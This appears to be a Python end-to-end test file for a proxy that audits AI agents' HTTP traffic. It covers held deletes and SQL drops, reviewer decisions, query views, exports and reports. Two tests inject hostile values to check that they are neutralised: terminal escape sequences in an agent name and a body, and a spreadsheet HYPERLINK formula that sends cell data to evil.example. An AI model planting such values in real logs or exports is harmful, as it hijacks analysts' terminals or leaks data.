"""The analyst's side, while a real proxy runs: views, show, follow, exports, hostile values."""

from __future__ import annotations

import base64
import concurrent.futures
import csv
import hashlib
import io
import json
import queue
import re
import socket
import subprocess
import threading
import urllib.parse
from pathlib import Path

import duckdb
import httpx
import pytest

from tests.e2e.conftest import client
from tests.e2e.harness import SHIELD, Proxy, Upstream, wait_for

pool = concurrent.futures.ThreadPoolExecutor(max_workers=4)
ESC = "\x1b[2J\x1b]0;owned\x07"


@pytest.fixture(scope="module")
def story(proxy: Proxy, upstream: Upstream) -> dict[str, str]:
    """A small incident: reads, a held Kubernetes delete approved, a held DROP denied, a blocked refund."""
    k8s = "/api/v1/namespaces/prod-a/pods/web-7"
    with client(proxy, "agent-story") as c:
        assert c.get(upstream.url("/allowed/story-read", tls=True)).status_code == 200
        assert c.post(upstream.url("/deny/story-refund"), json={"amount": 5}).status_code == 403
    held = pool.submit(lambda: client(proxy, "agent-story").delete(upstream.url(k8s, tls=True)))
    dropped = pool.submit(lambda: client(proxy, "agent-story").post(upstream.url("/v1/story-sql"),
                                                                     json={"query": "DROP TABLE orders"}))
    proxy.wait_held(f"~u {k8s}")
    proxy.wait_held("~u /v1/story-sql")
    pending = [r["path"] for r in sql(proxy, "SELECT path FROM pending")]
    proxy.command("shield.approve", f"~u {k8s}")
    proxy.command("shield.deny", "~u /v1/story-sql", "not", "today")
    assert held.result(15).status_code == 200 and dropped.result(15).status_code == 403
    proxy.flow_events("/v1/story-sql", "response")
    proxy.flow_events(k8s, "response")
    return {"k8s": k8s, "pending": json.dumps(pending)}


def sql(proxy: Proxy, query: str) -> list[dict]:
    return [json.loads(x) for x in proxy.shield("sql", query, "--json").stdout.splitlines()]


def test_pending_shows_holds_while_they_wait(story: dict[str, str]) -> None:
    assert set(json.loads(story["pending"])) >= {story["k8s"], "/v1/story-sql"}


def test_holds_view_has_wait_time_and_who_decided(proxy: Proxy, story: dict[str, str]) -> None:
    rows = {r["path"]: r for r in sql(proxy, "SELECT * FROM holds WHERE agent = 'agent-story'")}
    k8s, drop = rows[story["k8s"]], rows["/v1/story-sql"]
    assert (k8s["decision"], k8s["reviewer"], k8s["status_code"]) == ("approved", "test-reviewer", 200)
    assert (drop["decision"], drop["reviewer_comment"], drop["outcome"]) == ("denied", "not today", "refused")
    assert 0 < k8s["wait_s"] < 30
    assert not [r for r in sql(proxy, "SELECT * FROM pending") if r["agent"] == "agent-story"]


def test_rollup_views(proxy: Proxy, story: dict[str, str]) -> None:
    [a] = sql(proxy, "SELECT * FROM by_agent WHERE agent = 'agent-story'")
    assert (a["flows"], a["allowed"], a["approved"], a["denied"], a["blocked"]) == (4, 1, 1, 1, 1)
    [r] = sql(proxy, "SELECT * FROM by_reviewer WHERE reviewer = 'test-reviewer'")
    assert r["approved"] >= 1 and r["denied"] >= 1
    denials = {d["path"] for d in sql(proxy, "SELECT * FROM denials WHERE agent = 'agent-story'")}
    assert denials == {"/deny/story-refund", "/v1/story-sql"}


def test_show_tells_the_story_of_one_flow_from_a_prefix(proxy: Proxy, story: dict[str, str]) -> None:
    [t] = proxy.timeline("--agent", "agent-story", "--namespace", "prod-a")
    out = proxy.shield("show", t["flow_id"][:8]).stdout
    assert "action    kubernetes delete pods/web-7 in prod-a (delete)" in out
    assert "decision  approved by test-reviewer" in out and "via shield.approve" in out
    assert "outcome   forwarded: 200" in out and "every row hash and link verifies" in out
    events = [json.loads(x) for x in proxy.shield("show", t["flow_id"], "--json").stdout.splitlines()]
    assert [e["stage"] for e in events] == ["request", "decision", "response"]
    assert all(e["hash_ok"] and e["link_ok"] for e in events)


def test_show_refuses_an_unknown_or_ambiguous_id(proxy: Proxy, story: dict[str, str]) -> None:
    assert proxy.shield("show", "zzzz", check=False).returncode == 2
    assert "ambiguous" in proxy.shield("show", "", check=False).stderr


def test_follow_streams_new_flows_and_their_decisions(proxy: Proxy, upstream: Upstream) -> None:
    p = subprocess.Popen([*SHIELD, "timeline", "--follow", "--json", "--agent", "agent-follow", "--dir", str(proxy.audit_dir)],
                         stdout=subprocess.PIPE, text=True)
    lines: queue.Queue[dict] = queue.Queue()
    threading.Thread(target=lambda: [lines.put(json.loads(x)) for x in p.stdout], daemon=True).start()
    try:
        fut = pool.submit(lambda: client(proxy, "agent-follow").delete(upstream.url("/hold/follow-1")))
        first = lines.get(timeout=15)
        assert first["path"] == "/hold/follow-1" and first["decision"] is None
        proxy.wait_held("~u /hold/follow-1")
        proxy.command("shield.approve", "~u /hold/follow-1")
        assert fut.result(15).status_code == 200
        decided = wait_for(lambda: (lambda x: x if x["decision"] else None)(lines.get(timeout=15)), 20, "the decision")
        assert decided["path"] == "/hold/follow-1" and decided["decision"] == "approved"
    finally:
        p.terminate()
        p.wait(10)


def test_exports_carry_a_manifest_with_digests_and_the_chain_range(proxy: Proxy, story: dict[str, str], tmp_path: Path) -> None:
    out = tmp_path / "lake"
    cp = proxy.shield("export", "--format", "parquet", "--out", str(out))
    assert cp.stdout.startswith("exported ")
    manifest = json.loads((out / "manifest.json").read_text())
    for f in manifest["files"]:
        assert hashlib.sha256((out / f["path"]).read_bytes()).hexdigest() == f["sha256"]
    assert any(f["path"].startswith("date=") for f in manifest["files"])
    assert any(f["path"].startswith("checkpoints/") for f in manifest["files"])
    con = duckdb.connect()
    n, lo, hi = con.execute(f"SELECT count(*), min(seq), max(seq) FROM read_parquet('{out}/**/*.parquet', "
                            "hive_partitioning = true)").fetchone()
    assert (n, lo, hi) == (manifest["events"], manifest["seq_min"], manifest["seq_max"]) and lo == 1


def test_jsonl_export_takes_the_timeline_filters(proxy: Proxy, story: dict[str, str], tmp_path: Path) -> None:
    out = tmp_path / "story.jsonl"
    proxy.shield("export", "--format", "jsonl", "--out", str(out), "--agent", "agent-story")
    events = [json.loads(x) for x in out.read_text().splitlines()]
    assert {e["agent"] for e in events} == {"agent-story"} and len({e["flow_id"] for e in events}) == 4
    manifest = json.loads(out.with_name("story.jsonl.manifest.json").read_text())
    assert manifest["filters"] == {"agent": "agent-story"} and manifest["events"] == len(events)


def test_ocsf_export_maps_flows_to_http_and_api_activity(proxy: Proxy, story: dict[str, str], tmp_path: Path) -> None:
    out = tmp_path / "siem.jsonl"
    proxy.shield("export", "--format", "ocsf", "--out", str(out), "--agent", "agent-story")
    events = {e["http_request"]["url"]["path"]: e for e in map(json.loads, out.read_text().splitlines())}
    k8s = events[story["k8s"]]
    assert (k8s["class_uid"], k8s["activity_id"], k8s["type_uid"]) == (6003, 4, 600304)
    assert k8s["api"]["operation"] == "delete" and k8s["resources"][0]["namespace"] == "prod-a"
    assert k8s["unmapped"]["decision"] == "approved" and k8s["unmapped"]["reviewer"] == "test-reviewer"
    assert k8s["unmapped"]["row_hash"] and k8s["unmapped"]["chain_id"]
    read = events["/allowed/story-read"]
    assert (read["class_uid"], read["activity_name"], read["http_response"]["code"]) == (4002, "Get", 200)
    assert events["/deny/story-refund"]["status"] == "Failure"


def test_an_agent_cannot_reach_the_analysts_terminal(proxy: Proxy, upstream: Upstream) -> None:
    """The agent names itself through proxy auth and fills bodies: both end up on screens."""
    evil = f"evil{ESC}agent"
    token = base64.b64encode(f"{evil}:pw".encode()).decode()
    # a raw request: clients refuse to put control characters into a proxy URL's user name
    req = (f"POST {upstream.url('/allowed/escape')} HTTP/1.1\r\nHost: 127.0.0.1\r\nProxy-Authorization: Basic {token}\r\n"
           f"Content-Length: {len(('body' + ESC).encode())}\r\nConnection: close\r\n\r\nbody{ESC}").encode()
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as s:
        s.sendall(req)
        assert b" 200 " in s.recv(65536).split(b"\r\n")[0] + b" "
    proxy.flow_events("/allowed/escape", "response")
    outputs = [
        proxy.shield("timeline", "--agent", "evil*").stdout,
        proxy.shield("timeline", "--agent", "evil*", "--csv").stdout,
        proxy.shield("sql", "SELECT agent, request_body FROM events WHERE path = '/allowed/escape'").stdout,
        proxy.shield("show", [t for t in proxy.timeline("--agent", "evil*")][0]["flow_id"]).stdout,
    ]
    for out in outputs:
        assert "evil" in out
        assert "\x1b" not in out and "\x07" not in out, out
    assert "\\x1b[2J" in outputs[0] + outputs[3]


def test_an_agent_cannot_plant_a_formula_in_the_analysts_spreadsheet(proxy: Proxy, upstream: Upstream) -> None:
    """CSV is opened in spreadsheets: an agent's name that starts a formula stays text there."""
    evil = '=HYPERLINK("//evil.example/?"&A1)'  # no colon: Basic auth ends the name there
    with httpx.Client(proxy=proxy.url(urllib.parse.quote(evil, safe="")), trust_env=False, timeout=30) as c:
        assert c.get(upstream.url("/allowed/formula")).status_code == 200
    proxy.flow_events("/allowed/formula", "response")
    for out in (proxy.shield("timeline", "--agent", "=HYPERLINK*", "--csv").stdout,
                proxy.shield("sql", "SELECT agent, path FROM events WHERE path = '/allowed/formula'", "--csv").stdout):
        rows = list(csv.DictReader(io.StringIO(out)))
        assert rows and {r["agent"] for r in rows} == {"'" + evil}, out
        assert {r["path"] for r in rows} == {"/allowed/formula"}
    assert json.loads(proxy.shield("timeline", "--agent", "=HYPERLINK*", "--json").stdout.splitlines()[0])["agent"] == evil


def test_several_analysts_at_once_while_traffic_flows(proxy: Proxy, upstream: Upstream) -> None:
    stop = threading.Event()

    def traffic() -> None:
        with client(proxy, "agent-busy") as c:
            i = 0
            while not stop.is_set():
                i += 1
                c.get(upstream.url(f"/allowed/busy-{i}"))

    t = threading.Thread(target=traffic)
    t.start()
    try:
        with concurrent.futures.ThreadPoolExecutor(4) as analysts:
            runs = list(analysts.map(lambda _: proxy.shield("timeline", "--json", "--limit", "50", check=False), range(8)))
    finally:
        stop.set()
        t.join(10)
    assert all(r.returncode == 0 for r in runs), [r.stderr for r in runs if r.returncode]


def test_report_writes_one_self_contained_page_for_a_filter(proxy: Proxy, story: dict[str, str], tmp_path: Path) -> None:
    page = tmp_path / "incident.html"
    out = proxy.shield("report", "--html", str(page), "--agent", "agent-story", "--title", "Story review")
    assert out.stdout.startswith("report written to")
    html = page.read_text()
    assert "<title>Story review</title>" in html and "agent agent-story" in html
    assert "/v1/story-sql" in html and "<svg" in html
    assert not re.search(r"""(src|href)\s*=\s*["']?https?:""", html), "the page must fetch nothing"
